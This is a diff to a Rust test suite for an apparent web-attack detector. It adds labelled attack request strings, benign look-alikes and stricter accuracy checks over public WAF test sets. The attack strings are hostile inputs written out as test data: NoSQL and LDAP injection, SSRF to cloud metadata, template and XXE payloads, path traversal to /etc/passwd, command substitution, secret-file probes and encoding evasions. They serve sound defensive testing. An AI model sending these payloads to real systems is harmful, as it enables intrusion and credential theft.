@@ -42,6 +42,38 @@ fn attacks_are_named_through_encodings_and_redaction() {
         ("/x?y=$(id)", "cmdi"),
         ("/x?y=${jndi:ldap://192.0.2.1/a}", "jndi"),
         ("/x?y=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", "jndi"),
+        ("/login?user[$ne]=x&password[$ne]=x", "nosqli"),
+        ("/search?q=%7B%22$where%22:%22sleep(100)%22%7D", "nosqli"),
+        ("/people?name=*)(uid=*))(|(uid=*", "ldapi"),
+        ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
+        ("/fetch?url=http://2852039166/", "ssrf"),
+        ("/fetch?url=gopher://192.0.2.1:6379/_x", "ssrf"),
+        ("/hello?name=%7B%7B7*7%7D%7D", "template"),
+        ("/hello?name=$%7BT(java.lang.Runtime).getRuntime()%7D", "template"),
+        ("/load?o=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", "deserialisation"),
+        ("/load?o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaA", "deserialisation"),
+        ("/set?__proto__.admin=1", "pollution"),
+        ("/set?constructor[prototype][admin]=1", "pollution"),
+        ("/go?to=x%0d%0aSet-Cookie:%20a=b", "crlf"),
+        ("/%0d%0ax", "crlf"),
+        ("/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "graphql"),
+        ("/load?x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///c%22%3E%5D%3E", "xxe"),
+        ("/x?class.module.classLoader.URLs%5B0%5D=0", "exploit"),
+        ("/_ignition/execute-solution", "exploit"),
+        ("/a/b/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "exploit"),
+        ("/a?search=%24%7Bscript%3Ajavascript%3Ax%7D", "exploit"),
+        ("/a?login=$(echo$%7BIFS%7Dx)", "exploit"),
+        ("/api/.env", "sensitive"),
+        ("/%2egit/config", "sensitive"),
+        // Twice, by `%u`, overlong, full-width letters, entities, comments, quotes inside a word, base64.
+        ("/a?q=%2527%2520or%25201%253D1--", "sqli"),
+        ("/a?q=%u0027%20or%201=1--", "sqli"),
+        ("/a?f=%c0%ae%c0%ae%c0%afetc", "traversal"),
+        ("/a?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", "xss"),
+        ("/a?q=%26lt;script%26gt;alert(1)", "xss"),
+        ("/a?q=1%20un/**/ion/**/sel/**/ect%201,2", "sqli"),
+        ("/a?q=;c'a't%20/et'c/pas's'wd", "traversal"),
+        ("/a?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "xss"),
     ] {
         let names = probes(&mut normaliser(), target, "curl/8", "");
         assert!(names.iter().any(|name| name == class), "{target}: {names:?}");
@@ -107,10 +139,47 @@ fn ordinary_requests_are_not() {
         "/odata/Orders?$filter=Price%20gt%2020&$select=Name,Price&$orderby=Name",
         "/a?q=select+a+gift",
         "/a?e=x%3Dy%3Bz",
+        "/a?q=select+all+from+list",
+        "/a?q=select+2+items",
+        "/a?q=x+%3E+5+and+y+%3C+3",
+        "/a?q=a%2Bb%3D2*(c-1)",
+        "/a?q=%22red+shoes%22+AND+%22blue+hat%22",
+        "/a?q=name%3D%27a%27+or+name%3D%27b%27",
+        "/a?q=1950%27s+dresses",
+        "/a?q=function+f(a)+%7B+return+a+%2B+1%3B+%7D",
+        "/a?q=%3Cb%3Ebold%3C/b%3E",
+        "/a?q=javascript:+the+good+parts",
+        "/a?q=cats+%26+cat+food",
+        "/a?q=how+to+use+%60git+rebase%60",
+        "/a?cursor=eyJpZCI6NDIsImNyZWF0ZWQiOiIyMDI2LTAxLTAxIn0",
+        "/a?text=line+one%0Aline+two",
+        "/a?accept=*/*&fields=name|id",
+        "/a?price[$gt]=5&price[$lte]=100",
+        "/cb?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb",
+        "/assets/%7B%7Buser.avatar%7D%7D",
+        "/odata/Orders?$filter=startswith(Name,%27A%27)%20or%20contains(Name,%27b%27)",
+        "/api/v1/query?query=sum(rate(requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))",
+        "/graphql?query=%7Buser(id:1)%7Bname%20orders(first:10)%7Btotal%7D%7D%7D",
+        "/v1/environments",
+        "/api/backup-policies",
+        "/git/repositories",
+        "/v1/config",
+        "/v1/env",
     ] {
         let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
         assert_eq!(probes(&mut normaliser, target, agent, "https://shop.example/?q=a%20b"), [""; 0], "{target}");
     }
+}
+
+#[test]
+fn floods_of_graphql_are_and_a_page_with_a_few_aliases_is_not() {
+    let query = |aliases: usize| {
+        let fields: Vec<String> = (0..aliases).map(|i| format!("a{i}:login(pin:{i})%7Bok%7D")).collect();
+        format!("/graphql?query=query%7B{}%7D", fields.join("%20"))
+    };
+    let mut one = normaliser();
+    assert_eq!(probes(&mut one, &query(30), "curl/8", ""), ["graphql"]);
+    assert_eq!(probes(&mut one, &query(8), "curl/8", ""), [""; 0]);
 }
 
 #[test]
@@ -121,7 +190,7 @@ fn shares_over_public_sets() {
     );
     let show = std::env::var("GATEWATCH_SHOW").unwrap_or_default();
     let mut normaliser = normaliser();
-    let (mut benign, mut flagged) = (0, 0);
+    let (mut benign, mut flagged, mut encoded, mut seen) = (0, 0, 0, 0);
     let mut shares: BTreeMap<(String, String), (u32, u32)> = BTreeMap::new();
     for set in ["httpparams", "libinjection", "owasp-crs", "gotestwaf"] {
         for line in std::fs::read_to_string(root.join(set).join("cases.jsonl")).expect("the set").lines() {
@@ -138,6 +207,10 @@ fn shares_over_public_sets() {
                 .or_default();
             share.0 += 1;
             share.1 += u32::from(!names.is_empty());
+            if is_attack && !matches!(text("encoder"), "" | "Plain") {
+                encoded += 1;
+                seen += u32::from(!names.is_empty());
+            }
             // The rule tests of a WAF call values benign that are so for one rule only.
             if !is_attack && set != "owasp-crs" {
                 benign += 1;
@@ -158,6 +231,8 @@ fn shares_over_public_sets() {
         f64::from(named) / f64::from(all)
     };
     println!("benign named: {flagged} of {benign}; sqli {:.3}, xss {:.3}", named("sqli"), named("xss"));
-    assert!(f64::from(flagged) <= 0.005 * f64::from(benign), "{flagged} of {benign} benign values are called attacks");
-    assert!(named("sqli") >= 0.95 && named("xss") >= 0.95, "sqli {} xss {}", named("sqli"), named("xss"));
+    println!("encoded: {seen} of {encoded}");
+    assert_eq!(flagged, 0, "of {benign} benign values");
+    assert!(named("sqli") >= 0.97 && named("xss") >= 0.97, "sqli {} xss {}", named("sqli"), named("xss"));
+    assert!(f64::from(seen) >= 0.9 * f64::from(encoded), "{seen} of {encoded} encoded ones");
 }
